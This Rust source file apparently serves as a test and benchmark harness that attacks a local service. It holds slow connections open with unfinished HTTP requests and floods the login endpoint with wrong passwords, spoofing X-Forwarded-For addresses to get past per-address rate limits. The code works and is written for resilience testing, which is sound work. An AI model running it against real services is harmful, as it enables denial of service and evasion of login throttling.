//! An attack on a service that listens on 127.0.0.1: slow connections and a flood of wrong passwords. To measure what it does to others,
//! run it beside a normal client: `Attack::start(…)` in a test and in the bench, `cargo run -p attack -- …` elsewhere.

use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

/// Threads that try passwords: more than the service lets wait for a hash.
const GUESSERS: usize = 40;

/// What has been seen so far.
#[derive(Debug, Default)]
pub struct Tally {
    /// Slow connections that are open.
    pub open: AtomicUsize,
    /// Slow connections that the service closed.
    pub closed: AtomicUsize,
    /// Passwords that were found wrong; each cost a hash.
    pub wrong: AtomicUsize,
    /// Passwords that were not checked: 429 or 503.
    pub refused: AtomicUsize,
}

/// An attack under way; it ends when this is dropped.
pub struct Attack {
    /// What has been seen so far.
    pub tally: Arc<Tally>,
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Attack {
    /// Begins with `slow` slow connections, each opened again when it is closed, and a flood of passwords. Every password comes with a
    /// login of its own from an address of its own, as far as the service believes `X-Forwarded-For` from 127.0.0.1.
    pub fn start(target: SocketAddr, slow: usize) -> Self {
        let (tally, stop) = (Arc::<Tally>::default(), Arc::<AtomicBool>::default());
        let mut threads = Vec::new();
        let (its_tally, its_stop) = (Arc::clone(&tally), Arc::clone(&stop));
        threads.push(std::thread::spawn(move || be_slow(target, slow, &its_tally, &its_stop)));
        for thread in 0..GUESSERS {
            let (tally, stop) = (Arc::clone(&tally), Arc::clone(&stop));
            threads.push(std::thread::spawn(move || guess(target, thread, &tally, &stop)));
        }
        Self { tally, stop, threads }
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

/// What a slow connection sends at once: a head that does not end, the same after a complete request, or a head whose body does not come.
const BEGINNINGS: [&str; 3] = [
    "GET / HTTP/1.1\r\nhost: x\r\nx: ",
    "GET /health/live HTTP/1.1\r\nhost: x\r\n\r\nGET / HTTP/1.1\r\nhost: x\r\nx: ",
    "POST /api/v1/session HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 4000\r\n\r\n{",
];

fn be_slow(target: SocketAddr, many: usize, tally: &Tally, stop: &AtomicBool) {
    let mut connections: Vec<Option<TcpStream>> = (0..many).map(|_| None).collect();
    while !stop.load(Ordering::Relaxed) {
        for (place, beginning) in connections.iter_mut().zip(BEGINNINGS.iter().cycle()) {
            let Some(stream) = place else {
                *place = open(target, beginning);
                continue;
            };
            if is_closed(stream) {
                tally.closed.fetch_add(1, Ordering::Relaxed);
                *place = None;
            }
        }
        tally.open.store(connections.iter().flatten().count(), Ordering::Relaxed);
        std::thread::sleep(Duration::from_millis(500));
    }
}

fn open(target: SocketAddr, beginning: &str) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(target).ok()?;
    stream.write_all(beginning.as_bytes()).ok()?;
    stream.set_nonblocking(true).ok()?;
    Some(stream)
}

/// Reads what there is and sends one more byte; returns whether the connection is closed.
fn is_closed(stream: &mut TcpStream) -> bool {
    let mut answer = [0; 4096];
    let ended = loop {
        match stream.read(&mut answer) {
            Ok(0) => break true,
            Ok(_) => {}
            Err(e) => break e.kind() != ErrorKind::WouldBlock,
        }
    };
    ended || stream.write_all(b" ").is_err()
}

/// Tries passwords, many on one connection: a connection that the service has closed lingers and keeps a place in the table of open files.
fn guess(target: SocketAddr, thread: usize, tally: &Tally, stop: &AtomicBool) {
    let mut n = 0u32;
    let mut connection = None;
    while !stop.load(Ordering::Relaxed) {
        n += 1;
        let from = format!("10.{thread}.{}.{}", n / 250 % 250, n % 250);
        let body = format!("{{\"login\":\"nobody-{thread}-{n}\",\"password\":\"wrong\"}}");
        let tried = match connection.take() {
            Some(stream) => Ok(stream),
            None => TcpStream::connect(target).map(BufReader::new),
        };
        match tried.and_then(|stream| try_password(stream, &from, &body)) {
            Ok((stream, looked_at)) => {
                connection = Some(stream);
                if looked_at { &tally.wrong } else { &tally.refused }.fetch_add(1, Ordering::Relaxed);
            }
            Err(_) => std::thread::sleep(Duration::from_millis(10)),
        }
    }
}

/// Tries one password; returns the connection, and whether the service checked the password and found it wrong.
fn try_password(
    mut stream: BufReader<TcpStream>,
    from: &str,
    body: &str,
) -> std::io::Result<(BufReader<TcpStream>, bool)> {
    stream.get_ref().set_read_timeout(Some(Duration::from_secs(30)))?;
    let length = body.len();
    let request = format!(
        "POST /api/v1/session HTTP/1.1\r\nhost: x\r\nx-forwarded-for: {from}\r\n\
         content-type: application/json\r\ncontent-length: {length}\r\n\r\n{body}"
    );
    stream.get_mut().write_all(request.as_bytes())?;
    let (mut line, mut left, mut looked_at) = (String::new(), 0, false);
    while line != "\r\n" {
        line.clear();
        if stream.read_line(&mut line)? == 0 {
            return Err(ErrorKind::UnexpectedEof.into());
        }
        looked_at |= line.starts_with("HTTP/1.1 401 ");
        if let Some(number) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            left = number.trim().parse().map_err(|_| ErrorKind::InvalidData)?;
        }
    }
    std::io::copy(&mut (&mut stream).take(left), &mut std::io::sink())?;
    Ok((stream, looked_at))
}
